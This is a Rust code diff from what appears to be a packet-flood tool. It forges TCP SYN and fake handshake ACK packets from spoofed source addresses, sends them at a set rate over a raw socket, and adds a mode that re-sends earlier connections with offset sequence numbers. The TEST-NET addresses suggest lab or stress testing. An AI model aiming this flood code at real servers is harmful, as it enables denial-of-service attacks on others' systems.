@@ -76,7 +76,7 @@ fn pour(socket: &Socket, plan: &FloodPlan, end: &AtomicBool, sent: &AtomicU64) -
         let due = start.elapsed().as_micros() * u128::from(plan.per_second) / 1_000_000;
         while u128::from(sent.load(Ordering::Relaxed)) < due {
             let number = sent.fetch_add(1, Ordering::Relaxed);
-            for packet in packets(plan, number)? {
+            for packet in turn(plan, number)? {
                 sendto(socket.as_raw_fd(), &packet, &to, MsgFlags::empty())?;
             }
         }
@@ -85,15 +85,29 @@ fn pour(socket: &Socket, plan: &FloodPlan, end: &AtomicBool, sent: &AtomicU64) -
     Ok(())
 }
 
-/// The packets of one forged connection.
-fn packets(plan: &FloodPlan, number: u64) -> io::Result<Vec<Vec<u8>>> {
+/// How many connections later a tuple comes the second time: the server has answered by then.
+const LATER: u64 = 200;
+
+/// What is sent at this turn.
+fn turn(plan: &FloodPlan, number: u64) -> io::Result<Vec<Vec<u8>>> {
+    let mut all = packets(plan, number, 0)?;
+    if plan.forged == Forged::Twice
+        && let Some(earlier) = number.checked_sub(LATER)
+    {
+        all.extend(packets(plan, earlier, 1 << 30)?);
+    }
+    Ok(all)
+}
+
+/// The packets of one forged connection, with sequence numbers so much farther.
+fn packets(plan: &FloodPlan, number: u64, farther: u32) -> io::Result<Vec<Vec<u8>>> {
     let mut mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
     mixed ^= mixed >> 32;
     let [a, b, c, d, ..] = mixed.to_le_bytes();
     // No tuple comes twice in 254 × 64,512 connections.
     let port = 1024 + u16::try_from(number % 64_512).unwrap_or(0);
     let host = 1 + u8::try_from(number / 64_512 % 254).unwrap_or(0);
-    let sequence = u32::from_le_bytes([a, b, c, d]);
+    let sequence = u32::from_le_bytes([a, b, c, d]).wrapping_add(farther);
     let build = || match plan.to.ip() {
         IpAddr::V4(to) => {
             let from = Ipv4Addr::new(198, 51, 100, host);
@@ -107,7 +121,7 @@ fn packets(plan: &FloodPlan, number: u64) -> io::Result<Vec<Vec<u8>>> {
     let dport = plan.to.port();
     let syn = build().tcp(port, dport, sequence, 64_240).syn();
     let mut all = vec![write(syn, &[])?];
-    if plan.forged == Forged::Handshake {
+    if plan.forged != Forged::Syn {
         // The server's number is not known: this one is wrong.
         let ack = sequence ^ 0x5bd1_e995;
         let next = sequence.wrapping_add(1);
